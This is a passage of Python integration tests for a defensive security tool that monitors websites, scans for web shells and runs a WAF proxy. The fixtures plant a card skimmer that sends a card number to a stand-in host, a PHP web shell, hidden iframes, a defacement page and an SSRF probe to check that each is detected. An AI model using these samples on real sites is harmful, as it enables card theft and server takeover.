        self.assertIn("/other: the FIM baseline does not cover it", p.stdout + p.stderr)
        p = mamori("--root", self.tmp, "--store", self.db, "-q", "web", "check", "--baseline",
                   self.baseline, "--webroot", "relative", env=env, check=2)
        self.assertIn("--webroot relative", p.stderr)

    def test_an_unchanged_site_is_silent_and_each_tampering_is_named(self):
        p = mamori("web", "baseline", self.url, "--baseline", self.baseline, check=0)
        self.assertIn("Baseline of 5 pages", p.stdout)  # robots.txt kept /private/ out
        self.assertIn(f"1 linked pages not crawled because robots.txt disallows them (e.g. "
                      f"{self.url}private/secret.html)", p.stderr)
        self.assertEqual(stat.S_IMODE(os.stat(self.baseline).st_mode), 0o600)
        base = json.loads(slurp(self.baseline))
        self.assertIn(self.url + "unlinked.html", base["pages"])  # from the sitemap
        self.assertNotIn(self.url + "private/secret.html", base["pages"])
        self.assertEqual(base["pages"][self.url]["script_origins"], [self.cdn_url])
        # Nonces, CSRF tokens, the time, counters and cache-busting queries change on every
        # request: two checks in a row find nothing.
        for _ in range(2):
            self.assertEqual(self.check()["findings"], [])
        # Now the attacks, one per page so that each is seen on its own.
        u = self.url
        idx = slurp(os.path.join(self.site, "index.html"))
        self.page("index.html", idx.replace(
            "</head>", '<script src="http://127.0.0.3:1/skim.js"></script>'
                       '<script src="/js/jquery-min.js"></script></head>')
                  .replace(' integrity="sha', ' data-x="sha'))
        co = slurp(os.path.join(self.site, "checkout.html"))
        self.page("checkout.html", co.replace('action="/pay"', f'action="{self.cdn_url}/c"')
                  .replace("</form>", '</form><form action="mailto:a@b.example"></form>')
                  .replace("</body>", "<script>document.forms[0].onsubmit=function(){"
                                      "new Image().src='//x.example/?'+cardnumber.value}</script>"
                                      "</body>"))
        ab = slurp(os.path.join(self.site, "about.html"))
        self.page("about.html", ab.replace(
            "</body>", f'<iframe src="{self.cdn_url}/x.html" width="1" height="1"></iframe>'
                       '<iframe src="http://127.0.0.3:1/pay.html"></iframe></body>'))
        self.page("news.html", "<html><head><title>hacked</title></head><body><h1>Hacked by "
                               "nobody</h1><p>your security is a joke, greetings to all my "
                               "friends out there</p></body></html>")
        self.page("unlinked.html", slurp(os.path.join(self.site, "unlinked.html")).replace(
            "<body>", f'<head><meta http-equiv="refresh" content="0; url={self.cdn_url}/spam">'
                      '</head><body>'))
        spit(os.path.join(self.site, "js", "app.js"), "document.title += ''; steal();\n")
        doc = self.check(1, "--fail-on", "high")
        got = sorted((f["check"], f["asset"][len(u):], f["severity"]) for f in doc["findings"])
        self.assertEqual(got, [
            ("defacement", "news.html", "high"),
            ("form-offsite", "checkout.html", "high"),
            ("hidden-iframe", "about.html", "medium"),
            ("new-iframe-origin", "about.html", "medium"),
            ("new-inline-script", "checkout.html", "high"),
            ("new-script", "", "medium"),
            ("new-script-origin", "", "medium"),
            ("redirect-offsite", "unlinked.html", "high"),
            ("script-changed", "", "medium"),
            ("script-changed", "checkout.html", "high"),
            ("sri-removed", "", "medium"),
        ])
        self.assertTrue(all(f["module"] == "web" and f["state"] == "new" for f in doc["findings"]))
        by = {(f["check"], f["asset"]): f for f in doc["findings"]}
        self.assertIn("skim.js", by[("new-script-origin", u)]["evidence"])
        self.assertIn("cardnumber", by[("new-inline-script", u + "checkout.html")]["evidence"])
        self.assertIn("card fields", by[("form-offsite", u + "checkout.html")]["evidence"])
        # The CDN's file changed under its integrity hash: browsers refuse it; the tag is
        # back with its integrity and the page otherwise as it was.
        self.page("index.html", idx)
        spit(os.path.join(self.cdn, "lib.js"), "window.lib = function () { steal(); };\n")
        doc = self.check(0)
        mine = sorted((f["check"], f["state"]) for f in doc["findings"] if f["asset"] == u)
        self.assertEqual(mine, [("new-script", "fixed"), ("new-script-origin", "fixed"),
                                ("script-changed", "open"), ("sri-mismatch", "new"),
                                ("sri-removed", "fixed")])
        # Everything put back: the findings are fixed.
        for name, text in (("checkout.html", co), ("about.html", ab)):
            self.page(name, text)
        spit(os.path.join(self.cdn, "lib.js"), "window.lib = function () { return 42; };\n")
        spit(os.path.join(self.site, "js", "app.js"), "document.title += '';\n")
        self.page("news.html", f"<html><head><title>News</title></head><body><p>" +
                  ("Our tea comes from small gardens in the hills; every leaf is picked by hand, "
                   "dried in the sun and packed the same week so that it reaches you fresh. ") * 4 +
                  "</p></body></html>")
        self.page("unlinked.html", "<html><body><p>" + ("Our tea comes from small gardens in the hills; every leaf is picked by hand, "
                 "dried in the sun and packed the same week so that it reaches you fresh. ") + "</p></body></html>")
        self.assertEqual([f for f in self.check()["findings"] if f["state"] != "fixed"], [])
        p = mamori("--store", self.db, "--format", "json", "findings", "list", "--state", "fixed",
                   check=0)
        self.assertEqual(len([f for f in json.loads(p.stdout)["findings"]
                              if f["module"] == "web"]), 12)

    def test_render_sees_scripts_other_scripts_add(self):
        # A tag manager from another origin (no integrity, so its content is not compared)
        # starts loading a skimmer: invisible in the HTML, seen in Chromium.
        gtm = os.path.join(self.cdn, "gtm.js")
        spit(gtm, "window.dataLayer = [];\n")
        self.page("shop.html", f'<html><head><script src="{self.cdn_url}/gtm.js"></script>'
                               '</head><body><p>shop</p></body></html>')
        start = self.url + "shop.html"
        p = mamori("web", "baseline", "--render", "--no-sitemap", start, "--baseline",
                   self.baseline, check=0)
        self.assertTrue(json.loads(slurp(self.baseline))["options"]["render"])
        self.assertEqual(self.check()["findings"], [])
        spit(gtm, "var s = document.createElement('script');"
                  "s.src = 'http://127.0.0.3:1/skim.js'; document.head.appendChild(s);\n")
        doc = self.check()
        self.assertEqual([(f["check"], f["asset"]) for f in doc["findings"]],
                         [("new-script-origin", start)])
        self.assertIn("http://127.0.0.3:1/skim.js, added at run time by another script",
                      doc["findings"][0]["evidence"])
        # Chromium missing: the check says so, records nothing as fixed, and goes on.
        mamori("--store", self.db, "-q", "web", "check", "--baseline", self.baseline,
               "--chromium", "/nonexistent/chromium", check=0)
        p = mamori("--store", self.db, "--format", "json", "findings", "list", check=0)
        self.assertEqual([(f["check"], f["state"]) for f in json.loads(p.stdout)["findings"]],
                         [("new-script-origin", "new")])  # kept, not fixed
        p = mamori("--store", self.db, "web", "check", "--baseline", self.baseline,
                   "--chromium", "/nonexistent/chromium", check=0)
        self.assertIn("Chromium not found", p.stdout)
        self.assertNotIn("/tmp/mamori-render-", "".join(os.listdir("/tmp")))

    def test_a_new_baseline_keeps_the_old_one_and_each_start_set_is_its_own_scope(self):
        mamori("web", "baseline", self.url, "--no-sitemap", check=0)
        p = mamori("web", "baseline", self.url.rstrip("/"), "--no-sitemap", check=0)
        path = os.path.join(STATE, "web", "http_127.0.0.1_%d.json" % self.port)
        self.assertIn(f"the previous one kept as {path}.prev", p.stdout)
        self.assertEqual(stat.S_IMODE(os.stat(path + ".prev").st_mode), 0o600)
        # The checkout page alone: another baseline, another scope; checking it does not touch
        # the whole site's findings.
        co = self.url + "checkout.html"
        mamori("web", "baseline", co, check=0)
        self.page("index.html", slurp(os.path.join(self.site, "index.html")).replace(
            "</head>", '<script src="http://127.0.0.3:1/x.js"></script></head>'))
        doc = json.loads(mamori("--store", self.db, "--format", "json", "-q", "web", "check",
                                self.url, check=0).stdout)
        self.assertEqual([f["check"] for f in doc["findings"]], ["new-script-origin"])
        doc = json.loads(mamori("--store", self.db, "--format", "json", "-q", "web", "check", co,
                                check=0).stdout)
        self.assertEqual(doc["findings"], [])
        p = mamori("--store", self.db, "--format", "json", "findings", "list", check=0)
        self.assertEqual([(f["check"], f["state"]) for f in json.loads(p.stdout)["findings"]],
                         [("new-script-origin", "new")])
        co_base = [n for n in os.listdir(os.path.join(STATE, "web"))
                   if n.startswith("http_127.0.0.1_%d-" % self.port) and n.endswith(".json")]
        self.assertEqual(len(co_base), 1)
        p = mamori("web", "check", co + "?x", "--baseline",
                   os.path.join(STATE, "web", co_base[0]), check=2)
        self.assertIn("give those URLs", p.stderr)

    def test_mistakes_get_clear_errors(self):
        mamori("web", "baseline", "ftp://127.0.0.1/", check=2)
        p = mamori("web", "check", "--baseline", os.path.join(self.tmp, "none.json"), check=3)
        self.assertIn("no baseline to compare with", p.stderr)
        spit(self.baseline, '{"format": "something else"}')
        p = mamori("web", "check", "--baseline", self.baseline, check=3)
        self.assertIn("not a web baseline", p.stderr)
        spit(self.baseline, '{"format": "mamori-web-baseline/1", "created": 1}')
        p = mamori("web", "check", "--baseline", self.baseline, check=3)
        self.assertIn("malformed web baseline", p.stderr)
        # Nothing answers: no baseline is written.
        p = mamori("web", "baseline", "http://127.0.0.1:9/", "--baseline", self.baseline,
                   "--timeout", "2", check=3)
        self.assertIn("no page could be read", p.stderr)

    def test_hostile_pages_cost_bounded_time_and_the_crawl_goes_on(self):
        self.page("index.html", "<html><body><p>start</p><a href='/loop'>l</a> "
                                "<a href='/slow'>s</a> <a href='/huge'>h</a> "
                                "<a href='/deep'>d</a> <a href='/manyattrs'>m</a> "
                                "<a href='/about.html'>a</a> \xff\xfe bad utf-8</body></html>")
        p = mamori("web", "baseline", self.url, "--baseline", self.baseline, "--timeout", "3",
                   "--max-size", "1", "--no-sitemap", check=0)
        self.assertIn("/huge: longer than 1048576 bytes", p.stderr)
        self.assertIn("/slow: ", p.stderr)
        self.assertIn("nested too deep was flattened", p.stderr)
        base = json.loads(slurp(self.baseline))
        u = self.url
        self.assertEqual(base["pages"][u + "about.html"]["status"], 200)
        self.assertEqual(base["pages"][u + "loop"]["redirect"], u + "loop")
        # What sits under 200,000 nested tags is still read.
        self.assertEqual(base["pages"][u + "deep"]["script_origins"], ["http://127.0.0.2:1"])
        self.assertEqual(len(base["pages"][u + "manyattrs"]["inline"]), 1)


class WebScanFim(Base):
    def test_files_the_fim_baseline_accepted_are_known_good_until_they_change(self):
        root = os.path.join(self.tmp, "root")
        www = os.path.join(root, "var", "www")
        os.makedirs(www)
        tool = os.path.join(www, "admin-tool.php")  # an admin's own tool: a shell by its shape
        spit(tool, "<?php\nsystem($_POST['cmd']);\n")
        base = os.path.join(self.tmp, "fim.baseline")
        mamori("--root", root, "--store", self.db, "-q", "fim", "init", "/var/www", "--baseline",
               base, check=0)
        doc = json.loads(mamori("--root", root, "--format", "json", "-q", "web", "scan",
                                "/var/www", "--fim-baseline", base, check=0).stdout)
        self.assertEqual((doc["known_good"], doc["suspects"]), (1, []))
        # Without it (or with --no-fim) the file is a suspect.
        doc = json.loads(mamori("--root", root, "--format", "json", "-q", "web", "scan",
                                "/var/www", check=0).stdout)
        self.assertEqual(len(doc["suspects"]), 1)
        # Changed since the baseline: a suspect again.
        spit(tool, "<?php\nsystem($_POST['cmd']); // v2\n")
        doc = json.loads(mamori("--root", root, "--format", "json", "-q", "web", "scan",
                                "/var/www", "--fim-baseline", base, check=0).stdout)
        self.assertEqual([s["path"] for s in doc["suspects"]], ["/var/www/admin-tool.php"])
        # A baseline whose signature does not verify is not used.
        spit(base, slurp(base).replace("admin-tool", "admin-toox"))
        p = mamori("--root", root, "web", "scan", "/var/www", "--fim-baseline", base, check=3)
        self.assertIn("signature does not verify", p.stderr)


class WafDocs(Base):
    def test_the_documented_waf_toml_loads(self):
        # docs/waf.md's example configuration, with loopback ports and no TLS files.
        doc = slurp(os.path.join(os.path.dirname(__file__), "..", "..", "docs", "waf.md"))
        block = doc.split("```toml\n", 1)[1].split("```", 1)[0]
        out = []
        for line in block.splitlines():
            if line.startswith(("[tls]", "cert =", "key =")):
                continue
            line = line.replace('"0.0.0.0:80"', '"127.0.0.1:18091"')
            line = line.replace('"127.0.0.1:9145"', '"127.0.0.1:18092"')
            line = line.replace('"/var/log/mamori/waf.jsonl"', '"%s"' % os.path.join(self.tmp, "w.jsonl"))
            out.append(line)
        conf = os.path.join(self.tmp, "doc.toml")
        spit(conf, "\n".join(out) + "\n")
        p = mamori("waf", "run", "--config", conf, "--check", check=0)
        self.assertIn("configuration and rules are good", p.stderr)


class WafLearn(Base):
    """mamori waf learn on a decision log: proposals with their evidence, SecLang that
    `waf rules` loads, JSON, and mistakes named."""

    def test_proposals_from_many_clients_only(self):
        lines = []
        for i in range(6):
            lines.append(json.dumps({
                "time": "2026-12-02T15:18:09.517Z", "id": "ab", "action": "detected",
                "would_status": 403, "client": f"192.0.2.{i % 4 + 1}", "method": "POST",
                "uri": "/wp-admin/post.php?action=edit", "score": 5,
                "rules": [{"id": 941100, "phase": 2, "variable": "ARGS:content",
                           "value": "<p>hello</p>", "msg": "XSS Attack Detected"}]}))
            lines.append(json.dumps({
                "time": "2026-12-02T15:18:10.000Z", "id": "ac", "action": "blocked",
                "status": 403, "client": "203.0.113.9", "method": "GET", "uri": "/?q=1",
                "rules": [{"id": 942100, "phase": 2, "variable": "ARGS:q", "value": "1'or",
                           "msg": "SQLi"}]}))
        log = os.path.join(self.tmp, "waf.jsonl")
        spit(log, "\n".join(lines) + "\nnot json\n")
        p = mamori("waf", "learn", log, check=0)
        self.assertIn("1 exclusions proposed", p.stdout)
        self.assertIn("1 not understood", p.stdout)
        self.assertIn("rule 942100 on ARGS:q: 6 requests from 1 clients", p.stdout)
        p = mamori("waf", "learn", "--seclang", "--first-id", "20000", log, check=0)
        self.assertIn('SecRule REQUEST_FILENAME "@streq /wp-admin/post.php" "id:20000,', p.stdout)
        self.assertIn("ctl:ruleRemoveTargetById=941100;ARGS:content", p.stdout)
        rules_only = "".join(l for l in p.stdout.splitlines() if not l.startswith("#"))
        self.assertNotIn("942100", rules_only)  # one address: nothing proposed
        conf = os.path.join(self.tmp, "learned.conf")
        spit(conf, p.stdout)
        mamori("waf", "rules", "--strict", conf, check=0)
        doc = json.loads(mamori("--format", "json", "waf", "learn", log, check=0).stdout)
        self.assertEqual([(x["route"], x["rule"], x["clients"]) for x in doc["proposals"]],
                         [("/wp-admin/post.php", 941100, 4)])
        self.assertEqual(doc["too_few"][0]["target"], "ARGS:q")
        p = mamori("waf", "learn", "--min-clients", "0", log, check=2)
        self.assertIn("--min-clients", p.stderr)
        p = mamori("waf", "learn", os.path.join(self.tmp, "missing.jsonl"), check=3)
        self.assertIn("missing.jsonl", p.stderr)


class WafRun(Base):
    """mamori waf run between a client and a real HTTP server on loopback: blocks, reloads
    on SIGHUP (a broken configuration is refused and the running one kept), tells systemd
    READY=1 once it listens, stops on SIGTERM."""

    RULES = ("SecRuleEngine On\nSecRequestBodyAccess On\n"
             "SecRule ARGS \"@contains attack\" \"id:20,phase:2,deny,status:403,log,"
             "msg:'attack in an argument'\"\n")

    def setUp(self):
        super().setUp()
        import http.server
        import threading

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                body = ("up:" + self.path).encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.addCleanup(self.server.server_close)
        self.addCleanup(self.server.shutdown)
        self.rules = os.path.join(self.tmp, "rules.conf")
        spit(self.rules, self.RULES)
        self.log = os.path.join(self.tmp, "decisions.jsonl")
        self.port = self.free_port()
        self.conf = os.path.join(self.tmp, "waf.toml")
        self.write_conf("block")
        self.proc = None

    def tearDown(self):
        if self.proc and self.proc.poll() is None:  # only what this test started
            self.proc.kill()
            self.proc.wait()
        super().tearDown()

    @staticmethod
    def free_port():
        import socket
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
        s.close()
        return port

    def write_conf(self, mode, extra=""):
        spit(self.conf, f'''listen = "127.0.0.1:{self.port}"
upstream = "http://127.0.0.1:{self.server.server_address[1]}"
rules = ["{self.rules}"]
mode = "{mode}"
log = "{self.log}"
workers = 2
{extra}''')

    @staticmethod
    def wait_ready(notify):
        while True:
            msg = notify.recv(4096).decode()
            if msg.startswith("READY=1"):
                return

    def get(self, path, conn=None):
        import http.client
        c = conn or http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        c.request("GET", path)
        r = c.getresponse()
        body = r.read().decode()
        if conn is None:
            c.close()
        return r.status, body, r

    def test_blocks_reloads_and_stops(self):
        self.start()
        # READY=1 came after the socket listens: the first request is served.
        st, body, _ = self.get("/shop?q=shoes")
        self.assertEqual((st, body), (200, "up:/shop?q=shoes"))
        st, body, r = self.get("/?q=an+attack")
        self.assertEqual(st, 403)
        rid = r.getheader("X-Request-Id")
        self.assertIn(rid, body)
        line = json.loads(slurp(self.log).splitlines()[-1])
        self.assertEqual((line["action"], line["id"], line["rules"][0]["id"]), ("blocked", rid, 20))
        self.assertEqual(stat.S_IMODE(os.stat(self.log).st_mode), 0o600)
        # SIGHUP: the file now says detect; the same attack passes and is logged.
        self.write_conf("detect")
        notify = self.start_reload()
        st, _, _ = self.get("/?q=an+attack")
        self.assertEqual(st, 200)
        self.assertEqual(json.loads(slurp(self.log).splitlines()[-1])["action"], "detected")
        # A broken file is refused: the running configuration stays.
        spit(self.conf, "mode = \"sometimes\"\n")
        self.proc.send_signal(signal.SIGHUP)
        self.wait_ready(notify)
        st, _, _ = self.get("/?q=an+attack")
        self.assertEqual(st, 200)
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(timeout=30)
        err = slurp(self.err_path)
        self.assertEqual(self.proc.returncode, 0, err)
        self.assertIn("reload refused", err)
        self.assertIn("mode is \"block\" or \"detect\"", err)
        self.assertIn("stopped;", err)

    def test_metrics_and_native_detectors(self):
        import http.client
        mport = self.free_port()
        self.write_conf("block", f'metrics = "127.0.0.1:{mport}"\n')
        self.start()
        self.assertEqual(self.get("/?q=fine")[0], 200)
        self.assertEqual(self.get("/?q=an+attack")[0], 403)
        # A native detector: a cloud metadata address written as one hex number.
        self.assertEqual(self.get("/fetch?url=http%3A%2F%2F0xa9fea9fe%2Flatest")[0], 403)
        line = json.loads(slurp(self.log).splitlines()[-1])
        self.assertEqual((line["rules"][0]["id"], line["rules"][0]["variable"]),
                         (7700200, "ARGS:url"))
        # A reload that fails is counted; the metrics port stays.
        spit(self.conf, "mode = \"sometimes\"\n")
        self.start_reload()

        def scrape(method="GET", path="/metrics"):
            c = http.client.HTTPConnection("127.0.0.1", mport, timeout=10)
            c.request(method, path)
            r = c.getresponse()
            body = r.read().decode()
            c.close()
            return r.status, body, r

        # An idle connection on the metrics port does not hold up a scrape.
        import socket
        idle = socket.create_connection(("127.0.0.1", mport))
        self.addCleanup(idle.close)
        st, body, r = scrape()
        self.assertEqual(st, 200)
        self.assertTrue(r.getheader("Content-Type").startswith("text/plain; version=0.0.4"))
        metrics = dict(l.rsplit(" ", 1) for l in body.splitlines() if l and not l.startswith("#"))
        self.assertEqual(metrics['mamori_waf_requests_total{action="blocked"}'], "2")
        self.assertEqual(metrics['mamori_waf_requests_total{action="passed"}'], "1")
        self.assertEqual(metrics['mamori_waf_rule_blocks_total{rule="20"}'], "1")
        self.assertEqual(metrics['mamori_waf_rule_blocks_total{rule="7700200"}'], "1")
        self.assertEqual(metrics["mamori_waf_reload_failures_total"], "1")
        self.assertEqual(metrics["mamori_waf_detect_mode"], "0")
        self.assertIn("# TYPE mamori_waf_requests_total counter", body)
        self.assertEqual(scrape(path="/")[0], 404)
        st, _, r = scrape(method="POST")
        self.assertEqual((st, r.getheader("Allow")), (405, "GET, HEAD"))
        # A request head that never ends is cut off at 8 KiB, the server goes on.
        junk = socket.create_connection(("127.0.0.1", mport))
        self.addCleanup(junk.close)
        junk.sendall(b"G" * 9000)
        junk.settimeout(10)
        try:
            got = junk.recv(100)
        except ConnectionResetError:  # closed with bytes unread: a reset, also a close
            got = b""
        self.assertEqual(got, b"")
        self.assertEqual(scrape()[0], 200)
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(timeout=30)
        self.assertEqual(self.proc.returncode, 0, slurp(self.err_path))

    def test_repeated_attackers_become_waf_findings_guard_can_ban(self):
        self.start()
        for i in range(5):
            self.assertEqual(self.get(f"/?q=an+attack+{i}")[0], 403)
        self.assertEqual(self.get("/?q=fine")[0], 200)
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(timeout=30)
        # The decision log as guard reads it: five blocks in ten minutes are a burst, but the
        # client is loopback, which guard never blames; the same lines from an outside address
        # (the proxy's own view of the client) are.
        lines = slurp(self.log).splitlines()
        self.assertEqual(len(lines), 5)
        outside = os.path.join(self.tmp, "outside.jsonl")
        spit(outside, "".join(l.replace('"client":"127.0.0.1"', '"client":"203.0.113.7"') + "\n"
                               for l in lines))
        r = mamori("--format", "json", "guard", "scan-log", self.log, check=0)
        self.assertEqual(json.loads(r.stdout)["attackers"], [])
        r = mamori("--format", "json", "guard", "scan-log", outside, check=0)
        out = json.loads(r.stdout)
        self.assertEqual([(a["address"], a["kind"], a["services"]) for a in out["attackers"]],
                         [("203.0.113.7", "burst", ["waf"])])
        self.assertEqual([(f["module"], f["check"]) for f in out["findings"]],
                         [("waf", "web-attacks")])

    def test_virtual_patches_from_the_last_scan_lift_when_it_is_fixed(self):
        # The inventory fixture's Contact Form 7 5.3.1 is vulnerable in the test advisories;
        # its copy registers an AJAX action.
        db = os.path.join(self.tmp, "vuln.db")
        mamori("--db", db, "db", "import", *(os.path.join(VFIX, f) for f in (
            "lang.jsonl", "friendsofphp.jsonl", "wordpress.json", "kev.json", "epss.csv")),
            check=0)
        root = self.fixture_copy("debian10")
        plugin = os.path.join(root, "var/www/shop/wp-content/plugins/contact-form-7")
        os.makedirs(os.path.join(plugin, "includes"))
        spit(os.path.join(plugin, "includes/ajax.php"),
             "<?php add_action( 'wp_ajax_nopriv_wpcf7_export', 'wpcf7_export' );\n")
        self.scan(root, None, "--db", db, check=0)
        self.start(pre=("--root", root, "--store", self.db))
        err = slurp(self.err_path)
        self.assertIn("virtual patch on: plugin contact-form-7 5.3.1", err)
        st, body, _ = self.get("/wp-content/plugins/contact-form-7/wp-contact-form-7.php")
        self.assertEqual(st, 403)
        line = json.loads(slurp(self.log).splitlines()[-1])
        # "shielded", not "blocked": visitors of a vulnerable plugin are not attackers, and
        # guard does not count these towards a ban.
        self.assertEqual((line["action"], line["rules"][0]["id"]), ("shielded", 7701000))
        self.assertIn("MAMORI-WP-contact-form-7-5.0-5.3.1", line["rules"][0]["msg"])
        import http.client
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        c.request("POST", "/wp-admin/admin-ajax.php", body="action=wpcf7_export",
                  headers={"Content-Type": "application/x-www-form-urlencoded"})
        r = c.getresponse()
        r.read()
        c.close()
        self.assertEqual(r.status, 403)
        self.assertEqual(json.loads(slurp(self.log).splitlines()[-1])["rules"][0]["variable"],
                         "ARGS:action")
        # Its script, and other plugins, are served.
        self.assertEqual(self.get("/wp-content/plugins/contact-form-7/includes/js/index.js")[0], 200)
        self.assertEqual(self.get("/wp-content/plugins/akismet/akismet.php")[0], 200)
        # Updated and scanned again: on the next read of the store (SIGHUP here) it lifts.
        main = os.path.join(plugin, "wp-contact-form-7.php")
        spit(main, slurp(main).replace("5.3.1", "5.5"))  # past both test advisories
        self.scan(root, None, "--db", db, check=0)
        self.start_reload()
        st, body, _ = self.get("/wp-content/plugins/contact-form-7/wp-contact-form-7.php")
        self.assertEqual((st, body), (200, "up:/wp-content/plugins/contact-form-7/wp-contact-form-7.php"),
                         slurp(self.err_path))
        self.assertIn("virtual patch lifted", slurp(self.err_path))

    def start_reload(self):
        # The notify socket of start(): reloads report RELOADING=1 then READY=1 on it.
        self.proc.send_signal(signal.SIGHUP)
        self.wait_ready(self._notify)
        return self._notify

    def start(self, pre=()):
        """Starts waf run (global options `pre` before the command); its systemd
        notifications arrive on self._notify."""
        import socket
        sock_path = os.path.join(self.tmp, "notify.sock")
        self._notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self._notify.bind(sock_path)
        self._notify.settimeout(30)
        self.addCleanup(self._notify.close)
        e = dict(os.environ)
        e["NOTIFY_SOCKET"] = sock_path
        # Its messages go to a file: a pipe nobody reads during a long test would fill and
        # stop it.
        self.err_path = os.path.join(self.tmp, "waf-run.err")
        err = open(self.err_path, "w")
        self.addCleanup(err.close)
        self.proc = subprocess.Popen([BIN, *pre, "waf", "run", "--config", self.conf], env=e,
                                     stdout=subprocess.DEVNULL, stderr=err, text=True)
        self.wait_ready(self._notify)
        return self._notify

    def test_a_thousand_reloads_under_load_fail_no_request_and_keep_memory_flat(self):
        import http.client
        import threading
        self.start()
        stop = threading.Event()
        counts = {"ok": 0, "failed": 0, "blocked": 0}
        errors = []

        def client(attack):
            conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
            while not stop.is_set():
                try:
                    st, _, _ = self.get("/?q=attack" if attack else "/?q=fine", conn)
                    want = 403 if attack else 200
                    counts["ok" if st == want else "failed"] += 1
                    if st == 403:
                        # a blocked request's connection stays open; keep using it
                        counts["blocked"] += 1
                except Exception as e:  # noqa: BLE001 - any failure counts
                    counts["failed"] += 1
                    errors.append(repr(e))
                    conn.close()
                    conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
            conn.close()

        threads = [threading.Thread(target=client, args=(i == 0,)) for i in range(3)]
        for t in threads:
            t.start()

        def rss_kb():
            for line in slurp(f"/proc/{self.proc.pid}/status").splitlines():
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
            return 0

        rss = {}
        try:
            for i in range(1, 1001):
                self.proc.send_signal(signal.SIGHUP)
                try:
                    self.wait_ready(self._notify)
                except TimeoutError:
                    self.fail(f"no READY=1 after reload {i}: {slurp(self.err_path)[-2000:]}")
                if i in (100, 1000):
                    rss[i] = rss_kb()
        finally:
            stop.set()
            for t in threads:
                t.join()
        print(f"\n  1000 reloads under load: {counts}, VmRSS after reload 100/1000: "
              f"{rss[100]}/{rss[1000]} kB", file=sys.stderr)
        self.assertEqual(counts["failed"], 0, errors[:5])
        self.assertGreater(counts["ok"], 1000)
        self.assertGreater(counts["ok"] - counts["blocked"], 50)  # passed on to the server
        self.assertGreater(counts["blocked"], 100)
        # Every reload builds a new engine; the old ones are freed when their last request ends.
        self.assertLess(rss[1000] - rss[100], 8 * 1024, rss)
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(timeout=30)
        err = slurp(self.err_path)
        self.assertEqual(self.proc.returncode, 0, err)
        self.assertIn("reload 1000:", err)

    def test_check_and_mistakes(self):
        p = mamori("waf", "run", "--config", self.conf, "--check", check=0)
        self.assertIn("configuration and rules are good", p.stderr)
        self.assertFalse(os.path.exists(self.log), "--check writes nothing")
        self.server.shutdown()
        self.server.server_close()
        p = mamori("waf", "run", "--config", self.conf, "--check", check=0)
        self.assertIn("warning: upstream", p.stderr)
        self.assertIn("is the web server running there?", p.stderr)
        # CRS without its crs-setup.conf would answer every request 500 (rule 901001).
        p = mamori("waf", "run", "--config", self.conf, "--rules",
                   "/usr/share/modsecurity-crs/rules", "--check", check=3)
        self.assertIn("without their crs-setup.conf", p.stderr)
        # The proxy in front of itself.
        p = mamori("waf", "run", "--rules", self.rules, "--listen", "0.0.0.0:18080",
                   "--upstream", "http://127.0.0.1:18080", "--check", check=3)
        self.assertIn("the proxy would send every request to itself", p.stderr)
        p = mamori("waf", "run", "--rules", self.rules, "--check", check=3)
        self.assertIn("no upstream", p.stderr)
        p = mamori("waf", "run", "--config", self.conf, "--upstream", "https://x", "--check",
                   check=3)
        self.assertIn("TLS to the server behind the proxy is not supported", p.stderr)
        mamori("waf", "run", "--config", self.conf, "--mode", "loud", check=2)
        p = mamori("waf", "run", "--config", self.conf, "--tls-cert", "/nonexistent.pem",
                   "--tls-key", "/nonexistent.key", "--check", check=3)
        self.assertIn("/nonexistent.pem", p.stderr)
        # The port is taken: a clear error, not a silent exit.
        import socket
        s = socket.socket()
        s.bind(("127.0.0.1", self.port))
        s.listen()
        self.addCleanup(s.close)
        p = mamori("waf", "run", "--config", self.conf, check=3)
        self.assertIn(f"listen 127.0.0.1:{self.port}: another server listens there", p.stderr)
        self.assertNotIn("building the engine", p.stderr, "the port is tried first")


class Audit(Base):
    """mamori audit on the shared weak/hardened fixture roots (bench/audit/make_fixture.py)."""

    def setUp(self):
        super().setUp()
        subprocess.run([sys.executable, os.path.join(SHARED, "bench/audit/make_fixture.py"),
                        self.tmp], check=True)
        self.expected = {}
        for line in slurp(os.path.join(self.tmp, "expected.tsv")).splitlines()[1:]:
            check, weak, hardened, _ = line.split("\t", 3)
            self.expected[check] = {"weak": weak, "hardened": hardened}

    def audit(self, tree, *args, check=None):
        return mamori("--root", os.path.join(self.tmp, tree), "--store", self.db, "--host", tree,
                      "-q", "audit", *args, check=check)

    def test_findings_are_the_failing_rows(self):
        for tree in ("weak", "hardened"):
            out = json.loads(self.audit(tree, "--format", "json", check=0).stdout)
            checks = {f["check"] for f in out["findings"]}
            if tree == "weak":
                self.assertTrue(out["findings"])
            for f in out["findings"]:
                self.assertEqual(f["module"], "audit")
                self.assertTrue(f["remediation"])
            self.assertGreaterEqual(len(self.expected), 15)  # the fixture's rows were read
            for cid, want in self.expected.items():
                self.assertEqual(cid in checks, want[tree] == "fail", f"{tree} {cid}")
            # --checks: every row with its result
            rows = json.loads(self.audit(tree, "--checks", "--format", "json", check=0).stdout)
            got = {c["id"]: c["result"] for c in rows["checks"]}
            for cid, want in self.expected.items():
                self.assertEqual(got[cid], want[tree], f"{tree} {cid}")

    def test_fixing_the_config_marks_findings_fixed(self):
        first = json.loads(self.audit("weak", "--format", "json", check=0).stdout)
        self.assertIn("SSH-PASSWORD-AUTH", {f["check"] for f in first["findings"]})
        os.remove(os.path.join(self.tmp, "weak/etc/ssh/sshd_config.d/50-cloud-init.conf"))
        second = json.loads(self.audit("weak", "--format", "json", check=0).stdout)
        states = {f["check"]: f["state"] for f in second["findings"]}
        self.assertEqual(states.get("SSH-PASSWORD-AUTH"), "fixed")
